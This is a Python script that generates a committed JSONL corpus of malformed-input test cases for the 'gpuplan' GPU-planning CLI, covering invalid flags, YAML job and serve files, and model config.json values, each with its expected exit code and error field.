#!/usr/bin/env python3
"""Writes tests/bad_inputs/cases.jsonl, the bad-input corpus (issue 15). Offline helper: the
JSONL file is the source of truth and is committed; rerun this after editing the lists below.
Each case: input files, the command (argv after `gpuplan`), the expected exit code and a
substring of stderr naming the field (docs/reliability.md)."""
import json
import os

cases = []


def case(name, args, rc=2, field=None, **kw):
    c = {"name": name, "args": args, "rc": rc}
    if field is not None:
        c["field"] = field
    c.update(kw)
    cases.append(c)


JOB = "model: Llama-2-7B\ntrain:\n  method: lora\n  data:\n    tokens: 100M\n"
SERVE = "model: Llama-2-7B\nserve:\n  qps: 1\n"
T = ["plan", "train", "--tokens", "1B"]
I = ["plan", "infer", "--model", "Llama-2-7B"]

# --- plan train flags ------------------------------------------------------------------------
for v in ["0", "-1", "16385", "10000000", "2147483647"]:
    case(f"train --max-nodes {v}", T + ["--max-nodes", v], field="--max-nodes")
for v in ["nan", "1e9", "x", "2147483648"]:
    case(f"train --max-nodes {v} (not an int)", T + ["--max-nodes", v], field="--max-nodes")
for v in ["nan", "inf", "0", "-0.5", "1.5", "1e400", "-inf"]:
    case(f"train --headroom {v}", T + ["--headroom", v], field="--headroom")
for v in ["nan", "-1", "2", "inf"]:
    case(f"train --spot-rate {v}", T + ["--spot", "--spot-rate", v], field="--spot-rate")
case("train --model empty", ["plan", "train", "--model", "", "--tokens", "1B"], field="--model")
case("train --model blank", ["plan", "train", "--model", "   ", "--tokens", "1B"], field="--model")
case("train --model 100k name", ["plan", "train", "--model", "x" * 100000, "--tokens", "1B"], field="--model", timeout_s=5)
case("train --model 200 chars", ["plan", "train", "--model", "Llama" * 40, "--tokens", "1B"], field="--model", timeout_s=5)
case("train --model invalid utf8 json", ["--json", "plan", "train", "--model", "hex:" + b"Llama\xff".hex(), "--tokens", "1B"], field="--model")
for v in ["0", "nan", "-1", "inf", "1e5", "-0"]:
    case(f"train --epochs {v}", T + ["--epochs", v], field="--epochs")
for v in ["0", "-5", "2000000", "2147483647"]:
    case(f"train --seq-len {v}", T + ["--seq-len", v], field="--seq-len")
for v in ["0", "-1", "99999999"]:
    case(f"train --global-batch {v}", T + ["--global-batch", v], field="--global-batch")
for v in ["0", "-1", "1001"]:
    case(f"train --top {v}", T + ["--top", v], field="--top")
case("train --lora-rank with --method full", T + ["--method", "full", "--lora-rank", "8"], field="--lora-rank")
case("train --lora-rank with default method", T + ["--lora-rank", "8"], field="--lora-rank")
case("train --lora-rank 0", T + ["--method", "lora", "--lora-rank", "0"], field="--lora-rank")
case("train --lora-rank 100000", T + ["--method", "lora", "--lora-rank", "100000"], field="--lora-rank")
case("train --lora-rank above hidden", ["plan", "train", "--model", "Llama-2-7B", "--tokens", "1B", "--method", "lora", "--lora-rank", "8192"], field="--lora-rank")
case("train --tokens with --samples", ["plan", "train", "--tokens", "1B", "--samples", "1M"], field="--samples")
for v in ["nan", "-1B", "1e400", "", "1e30", "1ZB", "1,5M", "inf"]:
    case(f"train --tokens {v!r}", ["plan", "train", "--tokens", v], field="--tokens")
for v in ["0h", "-1h", "nanh", "1e9h", "x", "1h30"]:
    case(f"train --deadline {v}", T + ["--deadline", v], field="--deadline")
for v in ["0", "-5", "nan", "1e400", "$-5"]:
    case(f"train --budget {v}", T + ["--budget", v], field="--budget")
for v in ["-1GB", "nanGB", "1e400GB", "12XB"]:
    case(f"train --dataset-size {v}", T + ["--dataset-size", v], field="--dataset-size")
for flag, v in [("--method", "bogus"), ("--precision", "int4"), ("--precision", "x"), ("--optimizer", "x"),
                ("--framework", "x"), ("--objective", "x"), ("--host-policy", "x"), ("--currency", "XYZ")]:
    case(f"train {flag} {v}", T + [flag, v], field=flag)
for v in ["-1h", "nanh", "1e9h"]:
    case(f"train --checkpoint-every {v}", T + ["--checkpoint-every", v], field="--checkpoint-every")
for v in ["0", "nan", "-1"]:
    case(f"global --usd-per-cny {v}", ["--usd-per-cny", v, "gpus"], field="--usd-per-cny")
case("global --currency XYZ", ["--currency", "XYZ", "plan", "train", "--tokens", "1B"], field="--currency")
case("train --gpus unknown", T + ["--gpus", "H999"], rc=2, field="--gpus")
# Names read as model + memory + package: a memory too long for a number, and a name two parts share.
case("train --gpus 400-digit memory", T + ["--gpus", "H100 " + "9" * 400 + "GB"], field="--gpus")
case("train --gpus ambiguous A100 SXM", T + ["--gpus", "A100 SXM"], field="--gpus")
case("train unknown flag", T + ["--bogus"], field="--bogus")

# --- plan infer / tco flags -------------------------------------------------------------------
for v in ["0", "-1", "nan", "inf", "1e400", "1e9"]:
    case(f"infer --qps {v}", I + ["--qps", v], field="--qps")
case("infer --qps with --tokens-per-s", I + ["--qps", "1", "--tokens-per-s", "100"], field="--qps")
case("infer --qps with --users", I + ["--qps", "1", "--users", "10"], field="--qps")
case("infer --tokens-per-s with --users", I + ["--tokens-per-s", "100", "--users", "10"], field="--tokens-per-s")
for v in ["0", "nan", "-5"]:
    case(f"infer --tokens-per-s {v}", I + ["--tokens-per-s", v], field="--tokens-per-s")
for v in ["-1", "0", "nan"]:
    case(f"infer --users {v}", I + ["--users", v], field="--users")
case("infer --think-s 0", I + ["--users", "10", "--think-s", "0"], field="--think-s")
case("infer --think-s nan", I + ["--users", "10", "--think-s", "nan"], field="--think-s")
for v in ["0", "-1", "2147483647", "2000000"]:
    case(f"infer --input-len {v}", I + ["--qps", "1", "--input-len", v], field="--input-len")
case("infer --input-len 1e10 (not an int)", I + ["--qps", "1", "--input-len", "1e10"], field="--input-len")
for v in ["-1", "-2", "2000000"]:
    case(f"infer --output-len {v}", I + ["--qps", "1", "--output-len", v], field="--output-len")
for flag in ["--ttft-ms", "--tpot-ms", "--e2e-ms"]:
    for v in ["0", "nan", "-1", "inf"]:
        case(f"infer {flag} {v}", I + ["--qps", "1", flag, v], field=flag)
for v in ["0", "1", "nan", "1.5", "-0.1"]:
    case(f"infer --util {v}", I + ["--qps", "1", "--util", v], field="--util")
for v in ["0", "-3", "5000"]:
    case(f"infer --top {v}", I + ["--qps", "1", "--top", v], field="--top")
case("infer --model empty", ["plan", "infer", "--model", "", "--qps", "1"], field="--model")
case("infer --model 100k name", ["plan", "infer", "--model", "y" * 100000, "--qps", "1"], field="--model", timeout_s=5)
for flag, v in [("--precision", "x"), ("--quant", "x"), ("--kv-precision", "int4"), ("--engine", "x"), ("--currency", "ABC")]:
    case(f"infer {flag} {v}", I + ["--qps", "1", flag, v], field=flag)
for v in ["0", "-5", "1001", "nan"]:
    case(f"infer --denoise-steps {v}", ["plan", "infer", "--model", "sdxl-unet", "--qps", "1", "--denoise-steps", v],
         field="--denoise-steps")
case("infer --denoise-steps on an LLM", I + ["--qps", "1", "--denoise-steps", "20"], field="--denoise-steps")
case("infer --tokens-per-s with --output-len 0", I + ["--tokens-per-s", "100", "--output-len", "0"], field="--tokens-per-s")
case("tco --qps nan", ["tco", "--model", "bert-base", "--qps", "nan"], field="--qps")
case("tco --years 0", ["tco", "--model", "bert-base", "--qps", "10", "--years", "0"], field="--years")
case("tco --years nan", ["tco", "--model", "bert-base", "--qps", "10", "--years", "nan"], field="--years")
case("tco --profile junk", ["tco", "--model", "bert-base", "--qps", "10", "--profile", "1,2,x"], field="--profile")
# An unknown cloud is bad input everywhere (it was "no deployment meets the SLOs" for serving).
case("infer --output-len on an encoder", ["plan", "infer", "--model", "bert-base", "--qps", "1", "--output-len", "100"], field="--output-len")
case("infer --input-len on a CNN", ["plan", "infer", "--model", "resnet-50", "--qps", "1", "--input-len", "100"], field="--input-len")
case("tco --output-len on an encoder", ["tco", "--model", "bert-base", "--qps", "10", "--output-len", "5"], field="--output-len")
case("infer --clouds unknown", I + ["--qps", "1", "--clouds", "nosuchcloud"], field="--clouds")
case("infer --clouds typo", I + ["--qps", "1", "--clouds", "awss"], field="--clouds")
case("tco --clouds unknown", ["tco", "--model", "bert-base", "--qps", "10", "--clouds", "nosuchcloud"], field="--clouds")
case("tco --gpus unknown", ["tco", "--model", "bert-base", "--qps", "10", "--gpus", "H999"], field="--gpus")

# --- memory flags ------------------------------------------------------------------------------
M = ["memory", "--model", "Llama-2-7B"]
for flag, v in [("--tp", "2147483647"), ("--tp", "0"), ("--tp", "-1"), ("--pp", "-1"), ("--pp", "100000"),
                ("--cp", "70000"), ("--ep", "0"), ("--batch", "0"), ("--batch", "2147483647"),
                ("--grad-accum", "2147483647"), ("--seq-len", "2147483647"), ("--context", "2147483647"),
                ("--concurrency", "2147483647"), ("--gpus", "-1"), ("--gpus", "2147483647"), ("--zero", "7"),
                ("--headroom", "nan"), ("--headroom", "0"), ("--gpu-memory-utilization", "nan"),
                ("--gpu-memory-utilization", "2"), ("--lora-rank", "2147483647"), ("--fsdp", "x"),
                ("--recompute", "x"), ("--method", "x"), ("--gpu", "H999")]:
    case(f"memory {flag} {v}", M + [flag, v], field=flag)
case("memory tp*pp overflow", M + ["--tp", "65536", "--pp", "65536"], field="--tp")
# Sequences longer than the model's context (Llama-2: 4096; GPT-2-XL: 1024).
case("memory --infer --context beyond the context", M + ["--infer", "--context", "8192"], field="--context")
case("memory --context beyond GPT-2's context", ["memory", "--model", "gpt-2-xl", "--infer", "--context", "2048"], field="--context")
case("memory --seq-len beyond the context", M + ["--seq-len", "8192"], field="--seq-len")
case("train --seq-len beyond the context", ["plan", "train", "--model", "Llama-2-7B", "--tokens", "1B", "--seq-len", "8192"], field="--seq-len")
case("infer input+output beyond the context", I + ["--qps", "1", "--input-len", "4000", "--output-len", "200"], field="--input-len")
case("memory --model 100k", ["memory", "--model", "z" * 100000], field="--model", timeout_s=5)

# --- job YAML ----------------------------------------------------------------------------------
def job(name, text, field, rc=2, via="plan", **kw):
    args = ["plan", "train", "-f", "j.yaml"] if via == "plan" else ["emit", "slurm", "--job", "j.yaml"]
    case(f"job yaml ({via}): {name}", args, rc=rc, field=field, files={"j.yaml": text}, **kw)

# Values the planner checks against the catalog are named by the file's line too.
for via in ["plan", "emit"]:
    job("unknown cloud", JOB + "constraints:\n  clouds: [aws, zzz]\n", "j.yaml:7:constraints.clouds[1]", via=via)
    job("unknown gpu", JOB + "constraints:\n  gpus: [H900]\n", "j.yaml:7:constraints.gpus[0]", via=via)
    if via == "plan":
        case("emit skypilot on a cloud SkyPilot does not provision",
             ["emit", "skypilot", "--job", "j.yaml"], rc=2, field="plans[0].cloud",
             files={"j.yaml": "model: Llama-2-7B\ntrain:\n  method: lora\n  precision: fp16\n"
                              "  data:\n    tokens: 100M\nconstraints:\n  clouds: [tencent]\n"})
    job("marketplace not a bool", JOB + "constraints:\n  marketplace: 2\n", "j.yaml:7:constraints.marketplace", via=via)
for via in ["plan", "emit"]:
    job("comma newline (LoadAll hang)", ",\n", "j.yaml", via=via, timeout_s=10)
    job("two documents", JOB + "---\n" + JOB, "j.yaml:", via=via)
    job("deep nesting", "model: " + "[" * 5000 + "]" * 5000 + "\n", "j.yaml", via=via)
    job("max_nodes 1e9", JOB + "constraints:\n  max_nodes: 1e9\n", "max_nodes", via=via)
job("empty file", "", "j.yaml")
job("only ---", "---\n---\n", "j.yaml")
job("comment only", "# nothing\n", "j.yaml")
job("dash comma", "---\n,\n", "j.yaml", timeout_s=10)
job("second doc after trailing", JOB + "---\n---\nmodel: x\n", "j.yaml:")
job("unclosed flow", "model: [a, b\n", "j.yaml")
job("tab indentation", "model: x\ntrain:\n\tmethod: lora\n", "j.yaml")
job("list at top", "- a\n- b\n", "j.yaml")
job("scalar at top", "hello\n", "j.yaml")
job("max_nodes 2147483648", JOB + "constraints:\n  max_nodes: 2147483648\n", "max_nodes")
job("max_nodes 20000", JOB + "constraints:\n  max_nodes: 20000\n", "max_nodes")
job("max_nodes 0", JOB + "constraints:\n  max_nodes: 0\n", "max_nodes")
job("max_nodes .nan", JOB + "constraints:\n  max_nodes: .nan\n", "max_nodes")
job("seq_len 0", JOB.replace("  method: lora\n", "  method: lora\n  seq_len: 0\n"), "seq_len")
job("seq_len huge", JOB.replace("  method: lora\n", "  method: lora\n  seq_len: 2147483647\n"), "seq_len")
job("global_batch -1", JOB.replace("  method: lora\n", "  method: lora\n  global_batch: -1\n"), "global_batch")
job("global_batch huge", JOB.replace("  method: lora\n", "  method: lora\n  global_batch: 1000000000\n"), "global_batch")
job("lora_rank huge", JOB.replace("  method: lora\n", "  method: lora\n  lora_rank: 1000000\n"), "lora_rank")
job("epochs .nan", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: .nan\n", "epochs")
job("epochs .inf", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: .inf\n", "epochs")
job("epochs 0", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: 0\n", "epochs")
job("epochs 1e9", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: 1e9\n", "epochs")
job("tokens 1e400", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1e400\n", "tokens")
job("tokens 1e30", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1e30\n", "tokens")
job("tokens and samples", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    samples: 1M\n", "train.data")
job("tokens list", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: [1, 2]\n", "tokens")
job("headroom 2", JOB + "constraints:\n  headroom: 2\n", "headroom")
job("headroom .nan", JOB + "constraints:\n  headroom: .nan\n", "headroom")
job("deadline -1h", JOB + "constraints:\n  deadline: -1h\n", "deadline")
job("budget 0", JOB + "constraints:\n  budget: 0\n", "budget")
job("unknown key", JOB + "bogus: 1\n", "bogus")
job("duplicate key", JOB + "top: 1\ntop: 2\n", "top")
job("top 0", JOB + "top: 0\n", "top")
job("top 1e9", JOB + "top: 1000000000\n", "top")
job("model empty", "model: ''\ntrain:\n  data:\n    tokens: 1B\n", "model")
job("model 200k", "model: " + "m" * 200000 + "\ntrain:\n  data:\n    tokens: 1B\n", "model", timeout_s=10)
job("model is a map", "model: {a: 1}\ntrain:\n  data:\n    tokens: 1B\n", "model")
job("train is a list", "model: Llama-2-7B\ntrain: [1]\n", "train")
job("alias bomb", "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nd: &d [*c, *c, *c, *c]\nmodel: *d\n", "j.yaml", timeout_s=10)
job("unknown key 100k", JOB + "k" * 100000 + ": 1\n", "j.yaml", timeout_s=10)
case("job yaml: invalid utf-8 model", ["plan", "train", "-f", "j.yaml"], field="model",
     hex={"j.yaml": ("model: Ll\xffama\ntrain:\n  data:\n    tokens: 1B\n").encode("latin-1").hex()})
case("job yaml: binary junk", ["plan", "train", "-f", "j.yaml"], field="j.yaml", hex={"j.yaml": "00ff10fe" * 64})
case("job yaml: over 1 MiB", ["plan", "train", "-f", "j.yaml"], field="-f",
     gen={"j.yaml": {"prefix": "# ", "repeat": "x", "times": 1100000, "suffix": "\n"}})
case("job yaml: missing file", ["plan", "train", "-f", "nope.yaml"], field="-f")
case("job yaml: a directory", ["plan", "train", "-f", "."], field="-f")
case("job yaml: lora method full via flag", ["plan", "train", "-f", "j.yaml", "--method", "full", "--lora-rank", "4"],
     field="--lora-rank", files={"j.yaml": JOB})

# --- emit targets a plan's model cannot run -----------------------------------------------------
case("emit vllm for a CNN plan", ["emit", "vllm", "--job", "s.yaml"], field="job.arch",
     files={"s.yaml": "model: resnet-50\nserve:\n  qps: 100\n"})
case("emit k8s for a text-to-image plan", ["emit", "k8s", "--job", "s.yaml"], field="job.arch",
     files={"s.yaml": "model: sdxl-unet\nserve:\n  qps: 1\n"})
case("emit skypilot for a text-to-image plan", ["emit", "skypilot", "--job", "s.yaml"], field="job.arch",
     files={"s.yaml": "model: sdxl-unet\nserve:\n  qps: 1\n"})

# --- serve YAML --------------------------------------------------------------------------------
def serve(name, text, field, cmd=("plan", "infer"), **kw):
    case(f"serve yaml ({cmd[0]}): {name}", list(cmd) + ["-f", "s.yaml"], field=field, files={"s.yaml": text}, **kw)

serve("comma newline", ",\n", "s.yaml", timeout_s=10)
serve("comma newline tco", ",\n", "s.yaml", cmd=("tco",), timeout_s=10)
serve("two documents", SERVE + "---\n" + SERVE, "s.yaml:")
serve("input_len 1e10", SERVE + "  input_len: 1e10\n", "serve.input_len")
serve("input_len 0", SERVE + "  input_len: 0\n", "serve.input_len")
serve("input_len 1.5", SERVE + "  input_len: 1.5\n", "serve.input_len")
serve("output_len -2", SERVE + "  output_len: -2\n", "serve.output_len")
serve("output_len huge", SERVE + "  output_len: 2147483648\n", "serve.output_len")
serve("denoise_steps 0", "model: sdxl-unet\nserve:\n  qps: 1\n  denoise_steps: 0\n", "serve.denoise_steps")
serve("denoise_steps 2.5", "model: sdxl-unet\nserve:\n  qps: 1\n  denoise_steps: 2.5\n", "serve.denoise_steps")
serve("denoise_steps on an LLM", SERVE + "  denoise_steps: 20\n", "s.yaml:4:serve.denoise_steps")
serve("qps 0", "model: Llama-2-7B\nserve:\n  qps: 0\n", "serve.qps")
serve("qps .nan", "model: Llama-2-7B\nserve:\n  qps: .nan\n", "serve.qps")
serve("qps text", "model: Llama-2-7B\nserve:\n  qps: lots\n", "serve.qps")
serve("qps 1e9", "model: Llama-2-7B\nserve:\n  qps: 1e9\n", "s.yaml:3:serve.qps")
serve("top 0", SERVE + "top: 0\n", "top")
serve("top 1e10", SERVE + "top: 1e10\n", "top")
serve("unknown key", SERVE + "bogus: 1\n", "bogus")
serve("key is a map", SERVE + "{a: 1}: 2\n", "s.yaml")
serve("deep nesting", "model: " + "[" * 5000 + "]" * 5000 + "\n", "s.yaml")
serve("tpot .inf", SERVE + "slo:\n  tpot_p99_ms: .inf\n", "slo.tpot_p99_ms")
serve("no model, empty benchmark", "serve:\n  qps: 1\n  benchmark: \"\"\n", "serve.benchmark")
serve("no model, benchmark without a preset", "serve:\n  qps: 1\n  benchmark: gptj-99\n", "--model")
serve("no model, unknown benchmark", "serve:\n  qps: 1\n  benchmark: mlperf/nope\n", "s.yaml:3:serve.benchmark")
serve("no model, no benchmark", "serve:\n  qps: 1\n", "model")
serve("util 1", SERVE + "  target_utilization: 1\n", "util")
serve("model missing", "serve:\n  qps: 1\n", "model")
serve("empty", "", "s.yaml")
serve("model empty", "model: ''\nserve:\n  qps: 1\n", "model")
serve("input_len beyond the context", SERVE + "  input_len: 4096\n", "s.yaml:4:serve.input_len")

# A value the file gave is named by its file:line:key, whichever layer rejects it (the reader,
# the job's checks or the planner), and the hint speaks of keys, not flags.
serve("engine unknown", SERVE + "  engine: zzz\n", "s.yaml:4:serve.engine")
serve("precision unknown", SERVE + "  precision: fp7\n", "s.yaml:4:serve.precision")
serve("quant unknown", SERVE + "  quant: awq9\n", "s.yaml:4:serve.quant")
serve("kv_precision unknown", SERVE + "  kv_precision: fp3\n", "s.yaml:4:serve.kv_precision")
serve("model unknown", "model: zzz-7b\nserve:\n  qps: 1\n", "s.yaml:1:model")
serve("cloud unknown", SERVE + "constraints:\n  clouds: [aws, zzz]\n", "s.yaml:5:constraints.clouds[1]")
serve("cloud unknown tco", SERVE + "constraints:\n  clouds: [zzz]\n", "s.yaml:5:constraints.clouds[0]",
      cmd=("tco",))
serve("gpu unknown", SERVE + "constraints:\n  gpus: [H900]\n", "s.yaml:5:constraints.gpus")
serve("currency unknown", SERVE + "constraints:\n  currency: EUR\n", "s.yaml:5:constraints.currency")
serve("gpus with cpu_only", SERVE + "constraints:\n  gpus: [L4]\n  cpu_only: true\n",
      "s.yaml:5:constraints.gpus")
serve("marketplace not a bool", SERVE + "constraints:\n  marketplace: sometimes\n",
      "s.yaml:5:constraints.marketplace")
serve("only marketplace clouds, listings dropped",
      SERVE + "constraints:\n  clouds: [vast]\n  marketplace: false\n", None, rc=1)
serve("output_len on an encoder", "model: bert-base\nserve:\n  qps: 1\n  output_len: 5\n",
      "s.yaml:4:serve.output_len")

# --- check YAML --------------------------------------------------------------------------------
CHECK = "hardware:\n  instance: p5.48xlarge\n  region: us-east-1\nnodes: 1\ntrain:\n  model: llama-2-7b\n  method: full\n"
def check(name, text, field, **kw):
    case(f"check yaml: {name}", ["check", "-f", "c.yaml"], field=field, files={"c.yaml": text}, **kw)
CHECK_SERVE = "hardware:\n  instance: g5.xlarge\n  region: us-east-1\nserve:\n  model: llama-2-7b\n  qps: 1\n"
check("serve engine unknown", CHECK_SERVE + "  engine: zzz\n", "serve.engine")
check("serve quant unknown", CHECK_SERVE + "  quant: awq9\n", "serve.quant")
check("serve kv_precision int4", CHECK_SERVE + "  kv_precision: int4\n", "serve.kv_precision")
check("serve tp 3 on 4 GPUs", "hardware:\n  instance: g5.12xlarge\n  region: us-east-1\nserve:\n  model: llama-2-7b\n  tp: 3\n  qps: 1\n", "c.yaml:6:serve.tp")
check("serve max_model_len 0", CHECK_SERVE + "  max_model_len: 0\n", "serve.max_model_len")
check("serve gpu_memory_utilization 1.5", CHECK_SERVE + "  gpu_memory_utilization: 1.5\n", "serve.gpu_memory_utilization")
check("serve gpu_memory_utilization 0", CHECK_SERVE + "  gpu_memory_utilization: 0\n", "serve.gpu_memory_utilization")
check("serve tp 0", CHECK_SERVE + "  tp: 0\n", "serve.tp")
check("tp x cp beyond the GPUs", CHECK + "  tp: 8\n  cp: 4\n", "train.tp")
check("ep 0", CHECK + "  ep: 0\n", "train.ep")
check("framework unknown", CHECK + "  framework: zzz\n", "train.framework")
check("optimizer unknown", CHECK + "  optimizer: adamw-3bit\n", "train.optimizer")
check("lora_rank with method full", CHECK + "  lora_rank: 8\n", "train.lora_rank")
check("lora_rank above hidden", CHECK.replace("method: full", "method: lora") + "  lora_rank: 9000\n",
      "train.lora_rank")
check("region the instance is not in",
      "hardware:\n  instance: p5.48xlarge\n  region: us-east-l\ntrain:\n  model: llama-2-7b\n",
      "hardware.region")
check("comma newline", ",\n", "c.yaml", timeout_s=10)
check("empty", "", "c.yaml")
# fuzz_check_yaml: a global batch of 10^8 took seconds (every value up to the per-rank batch was
# tried as a micro-batch divisor); the flags' ranges apply, and the largest batch is fast.
check("global_batch 84024888", CHECK + "  global_batch: 084024888\n", "train.global_batch")
check("seq_len 2^21", CHECK + "  seq_len: 2097152\n", "train.seq_len")
check("micro_batch 1e9", CHECK + "  micro_batch: 1000000000\n", "train.micro_batch")
check("global_batch 2^24 on one node (findings: exit 1)", CHECK + "  seq_len: 78\n  global_batch: 16777216\n",
      None, rc=1, timeout_s=10)
check("two documents", CHECK + "---\n" + CHECK, "c.yaml:")
check("deep nesting", "hardware: " + "[" * 5000 + "]" * 5000 + "\n", "c.yaml")
check("unknown instance", CHECK.replace("p5.48xlarge", "p99.bogus"), "instance")
check("nodes -1", CHECK.replace("nodes: 1", "nodes: -1"), "nodes")
check("nodes 1e12", CHECK.replace("nodes: 1", "nodes: 1000000000000"), "nodes")
check("unknown key", CHECK + "bogus: 1\n", "bogus")
check("binary", "\x00\x01\x02", "c.yaml")
check("seq_len beyond the context", CHECK + "  seq_len: 8192\n", "train.seq_len")
check("serve beyond the context", "hardware:\n  instance: p4d.24xlarge\n  region: us-east-1\nserve:\n  model: llama-2-7b\n  qps: 2\n  input_len: 4000\n  output_len: 128\n", "serve.input_len")
check("whisper input_len (a fixed audio window)", "hardware:\n  instance: g5.xlarge\n  region: us-east-1\nserve:\n  model: whisper-large-v3\n  qps: 2\n  input_len: 512\n", "serve.input_len")
check("whisper output beyond its decoder", "hardware:\n  instance: g5.xlarge\n  region: us-east-1\nserve:\n  model: whisper-large-v3\n  qps: 2\n  output_len: 1000\n", "serve.output_len")
case("check: missing file", ["check", "-f", "none.yaml"], field="-f")

# --- config.json -------------------------------------------------------------------------------
LL = {"model_type": "llama", "hidden_size": 4096, "num_hidden_layers": 32, "num_attention_heads": 32,
      "num_key_value_heads": 32, "intermediate_size": 11008, "vocab_size": 32000, "max_position_embeddings": 4096}
def cfg(name, text, field, cmd="memory", extra=(), **kw):
    args = ["memory", "--model", "m/config.json"] if cmd == "memory" else (
        ["plan", "train", "--model", "m/config.json", "--tokens", "1B"] if cmd == "train" else
        ["plan", "infer", "--model", "m/config.json", "--qps", "1"])
    args = args + list(extra)
    case(f"config.json ({cmd}): {name}", args, field=field, files={"m/config.json": text}, **kw)
def llama(**over):
    d = dict(LL)
    d.update(over)
    return json.dumps(d)
for cmd in ["memory", "train", "infer"]:
    cfg("hidden_size 1e400", '{"hidden_size": 1e400}', "m/config.json", cmd=cmd)
    cfg("hidden_size 1e12", llama(hidden_size=10**12), "hidden_size", cmd=cmd)
    cfg("100k-deep hidden_size", '{"hidden_size": ' + "[" * 100000 + "]" * 100000 + "}", "m/config.json", cmd=cmd)
cfg("hidden_size -1", llama(hidden_size=-1), "hidden_size")
cfg("hidden_size string", llama(hidden_size="4096"), "hidden_size")
cfg("hidden_size float", llama(hidden_size=4096.5), "hidden_size")
cfg("hidden_size 2^40", llama(hidden_size=2**40), "hidden_size")
cfg("layers 1e9", llama(num_hidden_layers=10**9), "num_hidden_layers")
cfg("heads 0", llama(num_attention_heads=0), "num_attention_heads")
cfg("kv heads 3", llama(num_key_value_heads=3), "num_key_value_heads")
cfg("vocab 1e300", llama(vocab_size=1e300), "vocab_size")
cfg("intermediate 2^31", llama(intermediate_size=2**31), "intermediate_size")
cfg("experts huge", llama(num_local_experts=10**9, num_experts_per_tok=2), "m/config.json")
cfg("giant but in-int dims", llama(hidden_size=16000000, intermediate_size=16000000, num_hidden_layers=100000), "hidden_size")
cfg("deep quantization_config", '{"quantization_config": ' + "[" * 200 + "]" * 200 + "}", "m/config.json")
cfg("quantization_config array", llama(quantization_config=[1, 2]), "quantization_config")
cfg("quant bits 64", llama(quantization_config={"quant_method": "gptq", "bits": 64}), "bits")
WH = {"model_type": "whisper", "d_model": 1280, "encoder_layers": 32, "decoder_layers": 32,
      "encoder_attention_heads": 20, "decoder_attention_heads": 20, "encoder_ffn_dim": 5120,
      "decoder_ffn_dim": 5120, "vocab_size": 51866, "num_mel_bins": 128,
      "max_source_positions": 1500, "max_target_positions": 448}
def whisper(**over):
    d = dict(WH)
    d.update(over)
    return json.dumps(d)
for cmd in ["memory", "infer"]:
    cfg("whisper num_mel_bins -1", whisper(num_mel_bins=-1), "num_mel_bins", cmd=cmd)
    cfg("whisper num_mel_bins 1e8", whisper(num_mel_bins=10**8), "num_mel_bins", cmd=cmd)
    cfg("whisper max_source_positions 2^31-1", whisper(max_source_positions=2**31 - 1), "max_source_positions", cmd=cmd)
    cfg("whisper audio without a window", whisper(max_source_positions=0), "max_source_positions", cmd=cmd)
    cfg("whisper decoder_layers 0", whisper(decoder_layers=0), "num_hidden_layers", cmd=cmd)
cfg("whisper --seq-len beyond its decoder", whisper(), "--seq-len", cmd="train", extra=["--seq-len", "1000"])
# 16M layers (within the dimension bounds): the vpp candidates and the per-layer MoE counts
# made `plan train` run for minutes; it must answer (any exit but 70) within the timeout.
cfg("16M layers train", llama(hidden_size=64, num_hidden_layers=16000000, num_attention_heads=4, num_key_value_heads=4, intermediate_size=128, vocab_size=1000), None, cmd="train", rc=1, timeout_s=30)
cfg("16M MoE layers train", llama(hidden_size=64, num_hidden_layers=16000000, num_attention_heads=4, num_key_value_heads=4, intermediate_size=128, vocab_size=1000, num_local_experts=8, num_experts_per_tok=2, model_type="mixtral"), None, cmd="train", rc=1, timeout_s=30)
cfg("not json", "hello", "m/config.json")
cfg("truncated", '{"hidden_size": 40', "m/config.json")
cfg("array top", "[1,2,3]", "m/config.json")
cfg("empty", "", "m/config.json")
cfg("null", "null", "m/config.json")
cfg("empty object", "{}", "m/config.json")
cfg("gpuplan params 1e60", llama(gpuplan={"params": 1e60}), "params")
cfg("gpuplan params negative", llama(gpuplan={"params": -5}), "params")
cfg("rope_scaling factor negative", llama(rope_scaling={"type": "linear", "factor": -2}), "rope_scaling.factor")
cfg("rope_scaling factor a string", llama(rope_scaling={"rope_type": "yarn", "factor": "4"}), "rope_scaling.factor")
cfg("rope_scaling factor 1e9", llama(rope_scaling={"rope_type": "dynamic", "factor": 1e9}), "rope_scaling.factor")
cfg("rope_scaling type a number", llama(rope_scaling={"type": 7, "factor": 2}), "rope_scaling.type")
cfg("yarn original length huge", llama(rope_scaling={"rope_type": "yarn", "factor": 1000, "original_max_position_embeddings": 2**31 - 1}), "rope_scaling.factor", cmd="infer")
cfg("context beyond a rope-scaled config", llama(rope_scaling={"type": "linear", "factor": 2}), "--context", cmd="memory", extra=["--infer", "--context", "9000"])
CNN = {"arch": "cnn", "params": 25557032, "gflops_per_sample": 8.18, "activation_melems_per_sample": 11.31}
for cmd in ["memory", "train"]:
    cfg("cnn frozen flops above the forward", json.dumps({"model_type": "resnet", "gpuplan": dict(CNN, frozen_gflops_per_sample=9)}), "frozen_gflops_per_sample", cmd=cmd)
cfg("cnn frozen maps without the maps", json.dumps({"model_type": "resnet", "gpuplan": dict({k: v for k, v in CNN.items() if k != "activation_melems_per_sample"}, frozen_activation_melems_per_sample=1)}), "frozen_activation_melems_per_sample")
cfg("cnn frozen flops negative", json.dumps({"model_type": "resnet", "gpuplan": dict(CNN, frozen_gflops_per_sample=-1)}), "frozen_gflops_per_sample")
cfg("cnn frozen_norm a number", json.dumps({"model_type": "resnet", "gpuplan": dict(CNN, frozen_norm=1)}), "frozen_norm")
RESNET = {"model_type": "resnet", "embedding_size": 64, "hidden_sizes": [256, 512, 1024, 2048], "depths": [3, 4, 6, 3], "layer_type": "bottleneck"}
for cmd in ["memory", "train"]:
    cfg("resnet stages of unequal length", json.dumps(dict(RESNET, depths=[3, 4, 6])), "hidden_sizes", cmd=cmd)
cfg("resnet depth zero", json.dumps(dict(RESNET, depths=[3, 0, 6, 3])), "depths[1]")
cfg("resnet depth a string", json.dumps(dict(RESNET, depths=[3, "4", 6, 3])), "depths[1]")
